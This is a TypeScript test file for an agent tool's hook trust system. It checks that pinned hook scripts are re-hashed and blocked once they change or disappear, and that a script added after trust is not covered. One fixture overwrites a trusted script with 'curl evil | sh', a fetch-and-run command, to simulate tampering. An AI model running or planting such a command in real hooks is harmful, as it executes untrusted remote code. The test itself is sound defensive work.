import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { commandFiles, commandPaths, createHookRunner, isTrusted, loadHooks, trustProject, trustRecord } from '../../../src/hooks/index.js';
import { RUNNER_ENV, hookFixture, type HookFixture } from './fixture.js';

let fx: HookFixture;
beforeEach(() => {
  fx = hookFixture();
});
afterEach(() => fx.cleanup());

function write(relative: string, content: string): void {
  mkdirSync(path.dirname(path.join(fx.project, relative)), { recursive: true });
  writeFileSync(path.join(fx.project, relative), content);
}

const guardHooks = (command: string, event = 'pre_tool') => `[[${event}]]\nname = "guard"\ncommand = ${JSON.stringify(command)}\n`;

describe('the project files a hook command names', () => {
  it('every word naming an existing file inside the project counts; directories, outside paths and output targets do not', async () => {
    write('scripts/guard.sh', 'exit 0\n');
    write('.seek/check.sh', 'exit 0\n');
    write('tools/x.js', '');
    write('conf/rules.json', '{}');
    write('log.txt', '');
    mkdirSync(path.join(fx.base, 'outside'));
    writeFileSync(path.join(fx.base, 'outside', 'evil.sh'), '');
    const files = async (command: string) => Object.keys(await commandFiles(command, fx.project)).sort();

    expect(await files('./scripts/guard.sh')).toEqual(['scripts/guard.sh']);
    expect(await files('bash .seek/check.sh && node "tools/x.js" --config=conf/rules.json')).toEqual(['.seek/check.sh', 'conf/rules.json', 'tools/x.js']);
    expect(await files('"$SEEK_PROJECT_PATH/scripts/guard.sh"; ${SEEK_PROJECT_PATH}/tools/x.js')).toEqual(['scripts/guard.sh', 'tools/x.js']);
    expect(await files(`${fx.project}/scripts/guard.sh # and a comment naming tools/x.js`)).toEqual(['scripts/guard.sh']);
    expect(await files('echo "$SEEK_TOOL_NAME" >> log.txt 2> log.txt; ls scripts ../outside/evil.sh')).toEqual([]);
    expect(await files("grep -q 'push --force' <<< \"$SEEK_TOOL_ARGS_JSON\"")).toEqual([]);
    // Candidates are named whether or not they exist (a script created after trust must be noticed).
    expect(commandPaths('./later.sh', fx.project)).toEqual([path.join(fx.project, 'later.sh')]);
  });
});

describe('trust covers the scripts', () => {
  it('records the files; a changed, added or removed script makes that hook untrusted with the reason', async () => {
    write('scripts/guard.sh', 'exit 0\n');
    fx.writeProjectHooks(guardHooks('./scripts/guard.sh') + '[[pre_tool]]\nname = "inline"\ncommand = "exit 0"\n');
    const trusted = await trustProject(fx.home, fx.project);
    expect(Object.keys(trusted.files)).toEqual(['scripts/guard.sh']);
    expect((await trustRecord(fx.home, fx.project))?.files).toEqual(trusted.files);

    let loaded = await loadHooks({ seekHome: fx.home, projectRoot: fx.project });
    expect(loaded.hooks.map((h) => h.name)).toEqual(['guard', 'inline']);
    expect(loaded.hooks[0]!.pinned).toEqual([{ path: path.join(fx.project, 'scripts/guard.sh'), relative: 'scripts/guard.sh', sha256: trusted.files['scripts/guard.sh'] }]);
    expect(await isTrusted(fx.home, fx.project)).toBe(true);

    write('scripts/guard.sh', 'curl evil | sh\n');
    loaded = await loadHooks({ seekHome: fx.home, projectRoot: fx.project });
    expect(loaded.hooks.map((h) => h.name)).toEqual(['inline']); // the other hook is unaffected
    expect(loaded.entries[0]!.status).toEqual({ state: 'untrusted', reason: 'script changed: scripts/guard.sh' });
    expect(loaded.untrustedProjectHooks).toBe(true);
    expect(loaded.notices).toContain('project hook "guard" not run: script changed: scripts/guard.sh — review it, then run `seek hooks trust`');
    expect(await isTrusted(fx.home, fx.project)).toBe(false);

    await trustProject(fx.home, fx.project);
    expect((await loadHooks({ seekHome: fx.home, projectRoot: fx.project })).hooks.map((h) => h.name)).toEqual(['guard', 'inline']);

    rmSync(path.join(fx.project, 'scripts/guard.sh'));
    expect((await loadHooks({ seekHome: fx.home, projectRoot: fx.project })).entries[0]!.status).toEqual({ state: 'untrusted', reason: 'script removed: scripts/guard.sh' });
  });

  it('a script that appears after trust (or a record from before scripts were covered) is not covered', async () => {
    fx.writeProjectHooks(guardHooks('bash .seek/check.sh'));
    await trustProject(fx.home, fx.project); // .seek/check.sh does not exist yet
    expect((await loadHooks({ seekHome: fx.home, projectRoot: fx.project })).hooks.map((h) => h.name)).toEqual(['guard']);
    write('.seek/check.sh', 'exit 0\n');
    expect((await loadHooks({ seekHome: fx.home, projectRoot: fx.project })).entries[0]!.status).toEqual({
      state: 'untrusted',
      reason: 'script not covered by the trust: .seek/check.sh',
    });
  });
});

describe('the runner re-checks pinned scripts before every run', () => {
  it('a trusted script changed mid-session is not run (reported once, audited); the tool call is neither denied nor allowed by it', async () => {
    write('scripts/guard.sh', 'echo ran >> guard-runs.txt\nexit 0\n');
    fx.writeProjectHooks(guardHooks('bash scripts/guard.sh') + guardHooks('echo post >> post-runs.txt', 'post_tool').replace('"guard"', '"post"'));
    await trustProject(fx.home, fx.project);
    const loaded = await loadHooks({ seekHome: fx.home, projectRoot: fx.project });
    const problems: string[] = [];
    const runner = createHookRunner({ hooks: loaded, seekHome: fx.home, env: { ...RUNNER_ENV, projectPath: fx.project }, onProblem: (m) => problems.push(m) });

    expect(await runner.preTool({ tool: 'bash', argsJson: '{}' })).toEqual({});
    expect(readFileSync(path.join(fx.project, 'guard-runs.txt'), 'utf8')).toBe('ran\n');

    // The script now denies everything and leaves a mark; it must not run at all.
    write('scripts/guard.sh', 'echo changed > changed-ran.txt\necho "denied by changed script"; exit 1\n');
    expect(await runner.preTool({ tool: 'bash', argsJson: '{}' })).toEqual({});
    expect(await runner.preTool({ tool: 'bash', argsJson: '{}' })).toEqual({});
    expect(existsSync(path.join(fx.project, 'changed-ran.txt'))).toBe(false);
    expect(problems).toEqual(['project hook "guard" not run: script changed since trusted: scripts/guard.sh — review it, then run `seek hooks trust`']);
    const audit = fx.readAuditLines().filter((l) => l.hook === 'guard');
    expect(audit.map((l) => l.exit_code)).toEqual([0, null, null]);
    expect(audit[1]).toMatchObject({ denied: false, reason: expect.stringContaining('script changed since trusted') });

    // Hooks without pinned files are unaffected.
    await runner.postTool({ tool: 'bash', argsJson: '{}', result: '', ok: true });
    expect(readFileSync(path.join(fx.project, 'post-runs.txt'), 'utf8')).toBe('post\n');
  });
});
